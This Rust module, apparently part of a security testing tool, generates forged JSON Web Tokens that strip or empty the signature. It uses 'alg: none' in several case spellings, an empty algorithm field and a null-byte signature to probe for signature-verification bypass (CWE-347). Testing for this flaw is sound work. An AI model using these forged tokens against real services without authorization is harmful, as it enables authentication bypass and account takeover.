//! Tokens whose signature is gone.

use serde_json::json;

use super::Forged;
use super::jwt::{Jwt, encoded};
use crate::http::Credential;

/// Form and spelling; checks for the one are known to have missed the others.
const SPELLINGS: &[(&str, &str)] = &[
    ("alg none", "none"),
    ("alg None", "None"),
    ("alg NONE", "NONE"),
    ("alg nOnE", "nOnE"),
];

/// The genuine claims without a signature: `alg: none` in its spellings (RFC 7518, section 3.6;
/// CWE-347), and the old algorithm with the signature left out.
pub(crate) fn unsigned(credential: &Credential) -> Vec<Forged> {
    let Some(jwt) = Jwt::find(credential) else {
        return Vec::new();
    };
    let mut tokens = Vec::new();
    for (form, spelling) in SPELLINGS {
        let header = encoded(&jwt.header_with(&[("alg", json!(spelling))]));
        tokens.push((*form, format!("{header}.{}.", jwt.claims_text)));
        if *spelling == "none" {
            let without_dot = format!("{header}.{}", jwt.claims_text);
            tokens.push(("alg none, two pieces", without_dot));
        }
    }
    tokens.push(("signature empty", format!("{}.", jwt.signed)));
    tokens.push(("signature dropped", jwt.signed.clone()));
    tokens.push(("signature of a null byte", format!("{}.AA", jwt.signed)));
    let no_algorithm = encoded(&jwt.header_with(&[("alg", json!(""))]));
    let hollow = format!("{no_algorithm}.{}.", jwt.claims_text);
    tokens.push(("alg empty", hollow));
    tokens
        .iter()
        .filter_map(|(form, token)| jwt.forged(form, token))
        .collect()
}
